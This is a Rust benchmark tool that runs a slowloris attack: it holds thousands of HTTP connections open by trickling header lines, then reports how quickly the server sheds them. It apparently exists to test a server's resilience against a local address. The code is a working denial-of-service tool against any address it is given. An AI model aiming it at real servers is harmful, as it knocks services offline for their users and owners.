//! A slow-header client for `benches/slow_headers.sh`: keeps `--connections` connections open, each
//! sending a request line and then one header line every `--interval` seconds without ever ending
//! the head (a slowloris). When the server closes one, it records how long the connection lived
//! and opens another, until `--duration` seconds have passed. Prints one `key=value` summary line.
//!
//!   slow-headers --addr 127.0.0.1:18000 [--connections 2000] [--interval 5] [--duration 30]
// A benchmark tool, not service code: failing fast and printing are the point.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stdout, clippy::print_stderr)]

use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::Instant;

#[derive(Default)]
struct Stats {
    opened: AtomicU64,
    connect_failures: AtomicU64,
    open_now: AtomicUsize,
    peak: AtomicUsize,
    /// Lifetimes of the connections the server closed.
    shed: Mutex<Vec<Duration>>,
}

struct Options {
    addr: String,
    connections: usize,
    interval: Duration,
    duration: Duration,
}

fn options() -> Result<Options, String> {
    let mut options = Options {
        addr: String::new(),
        connections: 2000,
        interval: Duration::from_secs(5),
        duration: Duration::from_secs(30),
    };
    let mut args = std::env::args().skip(1);
    while let Some(flag) = args.next() {
        let value = args.next().ok_or_else(|| format!("{flag} needs a value"))?;
        let seconds = |v: &str| v.parse::<f64>().map(Duration::from_secs_f64).map_err(|e| format!("{flag}: {e}"));
        match flag.as_str() {
            "--addr" => options.addr = value,
            "--connections" => options.connections = value.parse().map_err(|e| format!("{flag}: {e}"))?,
            "--interval" => options.interval = seconds(&value)?,
            "--duration" => options.duration = seconds(&value)?,
            other => return Err(format!("unknown option {other}")),
        }
    }
    if options.addr.is_empty() {
        return Err("--addr is required".to_owned());
    }
    Ok(options)
}

#[tokio::main]
async fn main() {
    let options = match options() {
        Ok(options) => options,
        Err(message) => {
            eprintln!("slow-headers: {message}");
            std::process::exit(2);
        }
    };
    let stats = Arc::new(Stats::default());
    let started = Instant::now();
    let stop = started + options.duration;
    let mut workers = Vec::with_capacity(options.connections);
    for _ in 0..options.connections {
        workers.push(tokio::spawn(worker(options.addr.clone(), options.interval, stop, Arc::clone(&stats))));
        // a ramp of a few seconds: the listen backlog is not what is being measured
        tokio::time::sleep(Duration::from_micros(1000)).await;
    }
    for worker in workers {
        worker.await.unwrap();
    }
    let mut shed = stats.shed.lock().unwrap().clone();
    shed.sort();
    let quantile = |q: f64| {
        shed.get(((shed.len() as f64 - 1.0) * q).round() as usize)
            .map_or("-".to_owned(), |d| format!("{:.2}", d.as_secs_f64()))
    };
    println!(
        "opened={} connect_failures={} peak_open={} shed={} shed_after_s_min={} shed_after_s_p50={} shed_after_s_p99={} shed_after_s_max={}",
        stats.opened.load(Ordering::Relaxed),
        stats.connect_failures.load(Ordering::Relaxed),
        stats.peak.load(Ordering::Relaxed),
        shed.len(),
        quantile(0.0),
        quantile(0.5),
        quantile(0.99),
        quantile(1.0),
    );
}

/// One slot of the attack: a slow connection, replaced whenever the server closes it.
async fn worker(addr: String, interval: Duration, stop: Instant, stats: Arc<Stats>) {
    while Instant::now() < stop {
        let Ok(mut socket) = TcpStream::connect(&addr).await else {
            stats.connect_failures.fetch_add(1, Ordering::Relaxed);
            tokio::time::sleep(Duration::from_millis(100)).await;
            continue;
        };
        let opened = Instant::now();
        stats.opened.fetch_add(1, Ordering::Relaxed);
        let open = stats.open_now.fetch_add(1, Ordering::Relaxed) + 1;
        stats.peak.fetch_max(open, Ordering::Relaxed);
        let closed_by_server = hold(&mut socket, interval, stop).await;
        stats.open_now.fetch_sub(1, Ordering::Relaxed);
        if closed_by_server {
            stats.shed.lock().unwrap().push(opened.elapsed());
        }
    }
}

/// Trickles header lines until the server closes the connection (true) or the run ends (false).
async fn hold(socket: &mut TcpStream, interval: Duration, stop: Instant) -> bool {
    if socket.write_all(b"GET /health HTTP/1.1\r\nhost: bench\r\n").await.is_err() {
        return true;
    }
    let mut buf = [0u8; 512];
    let mut line = 0u64;
    loop {
        let next = (Instant::now() + interval).min(stop);
        tokio::select! {
            read = socket.read(&mut buf) => match read {
                Ok(0) | Err(_) => return true,
                Ok(_) => {} // an answer (e.g. 408/431): the close follows
            },
            () = tokio::time::sleep_until(next) => {
                if Instant::now() >= stop {
                    return false;
                }
                line += 1;
                if socket.write_all(format!("x-slow-{line}: 1\r\n").as_bytes()).await.is_err() {
                    return true;
                }
            }
        }
    }
}
